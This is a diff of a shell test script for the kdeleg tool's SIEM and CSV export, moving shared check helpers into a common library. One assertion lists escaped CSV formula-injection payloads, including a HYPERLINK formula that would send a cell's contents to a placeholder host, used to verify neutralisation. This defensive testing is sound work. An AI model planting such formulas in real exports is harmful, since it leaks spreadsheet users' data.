@@ -3,19 +3,11 @@
 # Scheduled scans and SIEMs: fingerprints, baselines and kdeleg diff, --fail-on,
 # --min-severity, NDJSON and CSV. Usage: test-siem.sh KDELEG SOURCE_ROOT
 set -u
-py=$(command -v /usr/bin/python3 || command -v python3)
 kdeleg=$1
 top=$2
 lab=$top/docs/examples/lab.ldif
-work=$(mktemp -d)
-trap 'rm -rf "$work"' EXIT
-failures=0
-checks=0
-
-fail() {
-    echo "FAIL: $*" >&2
-    failures=$((failures + 1))
-}
+. "$top/tests/check.sh"
+check_init
 
 # expect CODE DESCRIPTION -- ARGS...: runs kdeleg, stdout in $work/out, stderr in $work/err
 expect() {
@@ -26,7 +18,6 @@ expect() {
     local got=$?
     [ "$got" -eq "$want" ] || fail "$what: exit $got, expected $want (stderr: $(head -c 300 "$work/err"))"
 }
-has() { grep -q -- "$2" "$work/$1" || fail "$3: '$2' not in $1"; }
 pycheck() {
     local what=$1
     shift
@@ -295,5 +286,4 @@ names = sorted(r[head.index("account")] for r in body)
 assert names == ["'  =1+1", "'-2+3\\tab\\x0d\\nc", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'@SUM(1+1)", "'＝1+1"], names
 PY
 
-echo "$checks checks, $failures failures"
-[ "$failures" -eq 0 ]
+check_done siem
